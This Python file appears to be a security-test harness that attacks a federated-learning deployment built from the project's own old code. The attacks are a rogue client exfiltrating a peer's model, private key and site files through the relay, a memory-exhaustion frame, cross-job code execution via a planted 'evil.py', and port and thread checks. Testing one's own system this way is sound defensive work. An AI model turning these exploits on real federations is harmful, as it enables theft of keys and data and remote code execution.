"""Attacks on a federation of the old code's own processes: run with the old environment, prints one JSON line each."""

# ruff: noqa: I001 - modules of the old tree
import json
import os
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any

import psutil

from fewjoule.federation.jobs import Operator, write_job
from fewjoule.federation.study import load_federated_study, specs_of
from tests.federation.real import Real, await_true

HERE = Path(__file__).parent
METHODS = """
[[methods]]
name = "mb"
method = "meta_backward"
rounds = 3000
radius = 0.0005
batch = 16
"""
SECONDS = 90
FEDERATION = [sys.executable, "-m", "fewjoule", "federation"]
WEIGHT_BYTES, CHECKSUM_BYTES = 4 * 49, 16  # of mlp:1-16-1, and at the end of a message


def say(attack: str, succeeded: bool | None, how: str) -> None:
    line = json.dumps({"attack": attack, "succeeded": succeeded, "how": how})
    print(line, file=sys.__stdout__, flush=True)  # a session of NVFlare redirects the other


def family(real: Real, name: str) -> list[psutil.Process]:
    parent = psutil.Process(real.processes[name].pid)
    return [parent, *parent.children(recursive=True)]


def job_of(real: Real, name: str) -> psutil.Process:
    words = ("worker_process", "runner_process")
    return next(p for p in family(real, name) if any(w in a for a in p.cmdline() for w in words))


def daemon_of(real: Real, name: str) -> psutil.Process:
    return next(p for p in family(real, name) if any("_train" in a for a in p.cmdline()))


def peak_megabytes(process: psutil.Process) -> float:
    lines = Path(f"/proc/{process.pid}/status").read_text().splitlines()
    return next(float(line.split()[1]) / 1000 for line in lines if line.startswith("VmHWM"))


@contextmanager
def attacked() -> Iterator[tuple[Real, Path]]:
    """Server, south and west as they come; north with its owner's own copy of the code. A run is under way."""
    folder = Path(tempfile.mkdtemp())
    real = Real(folder)
    source = Path(sys.modules["fewjoule"].__file__ or "").parents[1]
    shutil.copytree(source, folder / "north-src")
    app = folder / "north-src" / "fewjoule" / "federation" / "nvflare_app.py"
    app.write_text(app.read_text() + (HERE / "rogue.py").read_text())
    own = {"PYTHONPATH": str(folder / "north-src"), "LOOT": str(folder / "loot"), "BIG": str(folder / "big")}
    try:
        real.start("server", "south", "west")
        real.start("north", environment=own)
        study = real.study(METHODS, 'policy = "wait"\ndeadline_seconds = 30.0')
        threading.Thread(target=_run, args=(real, study), daemon=True).start()
        await_true(lambda: (folder / "loot").exists() and (folder / "loot").stat().st_size > 0, SECONDS, "a round")
        yield real, folder
    finally:
        real.stop()
        shutil.rmtree(folder, ignore_errors=True)


def _run(real: Real, study: Path) -> None:
    try:
        real.run(study, "run", lambda line: None)
    except BaseException as error:  # the federation is ended under it
        print(f"run: {error}", file=sys.stderr)


def peers(real: Real, folder: Path) -> None:
    loot = json.loads((folder / "loot").read_text())
    stolen = bytes.fromhex(loot["model"].get("south", "") if isinstance(loot["model"], dict) else "")
    (own,) = (folder / "kits" / "south" / "state" / "local").glob("*.state")
    weights = stolen[-WEIGHT_BYTES - CHECKSUM_BYTES : -CHECKSUM_BYTES]
    is_model = len(weights) == WEIGHT_BYTES and weights in own.read_bytes()
    say(
        "model",
        is_model,
        "a call through the relay gave south's own model, bit for bit" if is_model else str(loot["model"]),
    )
    has_key = "PRIVATE KEY" in loot["key"]
    say("key", has_key, "`sys.shell` through the relay gave south's private key" if has_key else loot["key"][:100])
    has_file = "own" in loot["files"] or "data" in loot["files"]
    say("files", has_file, "the same gave its site.json with the path of its data" if has_file else loot["files"][:100])


def local_port(real: Real) -> None:
    daemon = daemon_of(real, "south")
    ports = [c.laddr.port for c in daemon.net_connections() if c.status == psutil.CONN_LISTEN]
    before = peak_megabytes(daemon)
    for port in ports:
        with socket.create_connection(("127.0.0.1", port), 5) as plain:
            plain.sendall(struct.pack(">IHBBHHHH", 600 << 20, 0, 1, 0, 0, 0, 0, 0))
            time.sleep(3)
    grown = peak_megabytes(daemon) - before
    how = f"a plain local port; from whomever it comes, a frame of 16 bytes made the daemon grow by {grown:.0f} MB"
    say("port", grown > 500, how)


def sizes(real: Real) -> None:
    threads, end = 0, time.monotonic() + 60
    while threads <= 200 and time.monotonic() < end:
        threads = max(p.num_threads() for p in family(real, "server"))
        time.sleep(1)
    say("threads", threads > 200, f"a process of the server has {threads} threads while the run goes")
    members = family(real, "south")
    pss = sum(p.memory_full_info().pss for p in members) / 1e6
    say("memory", pss > 350, f"{len(members)} processes with {pss:.0f} MB (PSS) for one agent")


def status(real: Real) -> None:
    kit, began = str(real.folder / "kits" / "operator"), time.monotonic()
    with suppress(subprocess.TimeoutExpired):
        subprocess.run([*FEDERATION, "status", "--kit", kit], capture_output=True, timeout=30)
    took = time.monotonic() - began
    say(
        "status",
        took > 3,
        f"`status` beside a run that is watched {f'took {took:.1f} s' if took < 30 else 'gave no answer in 30 s'}",
    )
    mode = (real.folder / "kits" / "south" / "log.txt").stat().st_mode & 0o777
    say("log", bool(mode & 0o077), f"log.txt of the kit has mode {mode:04o}")


def large_answer(real: Real, folder: Path) -> None:
    job = job_of(real, "server")
    before = peak_megabytes(job)
    (folder / "big").touch()
    after, end = before, time.monotonic() + 15
    while job.is_running() and time.monotonic() < end:
        with suppress(OSError, StopIteration):  # it ends when it has refused the answer
            after = peak_megabytes(job)
        time.sleep(0.05)
    grown = after - before
    say("large", grown > 200, f"an answer of 134 MB, where 1 kB is due, made the server's job grow by {grown:.0f} MB")


def port_in_use() -> None:
    folder = Path(tempfile.mkdtemp())
    real = Real(folder)
    with socket.create_server(("127.0.0.1", real.federation.port)):
        try:
            real.start("server")
            time.sleep(15)
            told = [line for line in real.log("server").splitlines() if "port" in line.lower() or "use" in line.lower()]
            alive = real.processes["server"].poll() is None
        finally:
            real.stop()
    how = "; ".join(told)[:120].replace(str(real.federation.port), "PORT") or "nothing about it"
    say("taken", alive, f"the server stays up and never listens; its screen says: {how}")
    shutil.rmtree(folder, ignore_errors=True)


def code_travels() -> None:
    """With the operator's kit: one job carries a module, the next names a function that imports it."""
    folder = Path(tempfile.mkdtemp())
    real, mark = Real(folder), folder / "ran"
    operator = Operator(folder / "kits" / "operator")
    try:
        real.start("server", *real.names)
        operator.reconnect(lambda line: None, SECONDS)
        await_true(lambda: operator.agents() >= set(real.names), SECONDS, "all agents")
        study = load_federated_study(str(real.study(METHODS)))
        specs = specs_of(study, real.names)
        write_job(folder / "one", "one", specs, 3)
        evil = f"import os, pathlib\npathlib.Path({str(mark)!r}).write_text(os.getcwd())\n"
        (folder / "one" / "app" / "config" / "evil.py").write_text(evil)
        first = operator._ask("submit_job", str(folder / "one"))
        kit = folder / "kits" / "south"
        await_true(lambda: any(kit.glob(f"{first}/app*/config/evil.py")), SECONDS, "the job at south")
        (place,) = kit.glob(f"{first}/app*/config/evil.py")
        write_job(folder / "two", "two", specs, 3)
        config = folder / "two" / "app" / "config" / "config_fed_client.json"
        table = json.loads(config.read_text())
        module = ".".join(place.relative_to(kit).with_suffix("").parts)
        path = "nvflare.collab.runtime.controller.optional_import"
        table["components"].append({"id": "evil", "path": path, "args": {"module": module}})
        config.write_text(json.dumps(table))
        operator._ask("submit_job", str(folder / "two"))
        end = time.monotonic() + 60
        while not mark.exists() and time.monotonic() < end:
            time.sleep(0.2)
        say(
            "code",
            mark.exists(),
            "a module of the operator's ran at south" if mark.exists() else "it did not run in 60 s",
        )
    finally:
        operator.close()
        real.stop()
        shutil.rmtree(folder, ignore_errors=True)


def tried(work: Callable[..., None], *arguments: Any) -> None:
    """What fails is told, and the rest is tried all the same."""
    try:
        work(*arguments)
    except Exception as error:
        print(f"{work.__name__}: {type(error).__name__}: {error}", file=sys.stderr)


def all_of_one_federation() -> None:
    with attacked() as (real, folder):
        tried(peers, real, folder)
        tried(status, real)
        tried(sizes, real)
        tried(large_answer, real, folder)
        tried(local_port, real)


if __name__ == "__main__":
    os.umask(0o022)
    for work in (all_of_one_federation, port_in_use, code_travels):
        tried(work)
